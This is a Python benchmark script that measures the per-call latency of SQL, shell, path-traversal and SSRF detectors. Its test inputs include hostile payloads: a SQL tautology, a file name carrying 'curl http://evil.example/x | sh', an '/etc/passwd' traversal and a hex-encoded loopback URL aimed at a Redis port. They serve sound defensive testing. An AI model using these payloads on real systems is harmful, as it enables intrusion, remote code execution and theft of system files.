"""Per-call cost of each detector: the sink argument without the user input (the common case, budget
1 us) and with it in a ~200-character argument (tokenize and compare, budget 30 us)."""

from __future__ import annotations

from collections.abc import Callable

from benchmarks.harness import Row, interleaved, report, row
from tracesec.protect import (
    detect_path_traversal,
    detect_shell_injection,
    detect_sql_injection,
    detect_ssrf,
)

ABSENT_BUDGET_US = 1.0
PRESENT_BUDGET_US = 30.0


def _pad(text: str, width: int = 200) -> str:
    return text + " " * (width - len(text)) if len(text) < width else text


SQL_ATTACK = "x' OR '1'='1"
SQL_QUERY = _pad(
    "SELECT id, name, email, created_at FROM users WHERE tenant_id = 42 AND status = 'active' "
    f"AND name LIKE '%{SQL_ATTACK}%' ORDER BY created_at DESC LIMIT 50 OFFSET 100 /* page 3 */"
)
SQL_SAFE_INPUT = "Smith, John (III) - Sales"
SQL_SAFE_QUERY = SQL_QUERY.replace(SQL_ATTACK, SQL_SAFE_INPUT)
SHELL_ATTACK = "report.pdf; curl http://evil.example/x | sh"
SHELL_COMMAND = _pad(
    f"convert -density 300 -quality 90 /srv/app/uploads/{SHELL_ATTACK} /srv/app/out/page.png"
)
PATH_ATTACK = "../../../../etc/passwd"
PATH_VALUE = "/srv/app/data/tenants/acme/reports/2024/" + "q1/" * 40 + PATH_ATTACK
SSRF_ATTACK = "http://0x7f.1:6379/"
SSRF_URL = _pad(f"{SSRF_ATTACK}?q=" + "a" * 150)

CASES: dict[str, tuple[Callable[[str, str], bool], str, str]] = {
    "sql generic": (detect_sql_injection, SQL_QUERY, SQL_ATTACK),
    "sql input kept in a literal": (detect_sql_injection, SQL_SAFE_QUERY, SQL_SAFE_INPUT),
    "shell": (detect_shell_injection, SHELL_COMMAND, SHELL_ATTACK),
    "path": (detect_path_traversal, PATH_VALUE, PATH_ATTACK),
    "ssrf": (detect_ssrf, SSRF_URL, SSRF_ATTACK),
}
DIALECT_CASES = ("sqlite", "postgresql", "mysql")


def main() -> None:
    absent = {
        f"{name}, input absent": (lambda fn=fn, arg=arg: fn(arg, "something-else'; --"))
        for name, (fn, arg, _) in CASES.items()
    }
    present: dict[str, Callable[[], object]] = {
        f"{name}, input present ({len(arg)} chars)": (lambda fn=fn, arg=arg, value=value: fn(arg, value))
        for name, (fn, arg, value) in CASES.items()
    }
    present |= {
        f"sql {dialect}, input present ({len(SQL_QUERY)} chars)": (
            lambda dialect=dialect: detect_sql_injection(SQL_QUERY, SQL_ATTACK, dialect)
        )
        for dialect in DIALECT_CASES
    }
    rows: list[Row] = []
    for name, figures in interleaved(absent, number=20_000).items():
        rows.append(row(name, figures, budget_us=ABSENT_BUDGET_US))
    for name, figures in interleaved(present, number=2_000).items():
        rows.append(row(name, figures, budget_us=PRESENT_BUDGET_US))
    report("detectors", rows)


if __name__ == "__main__":
    main()
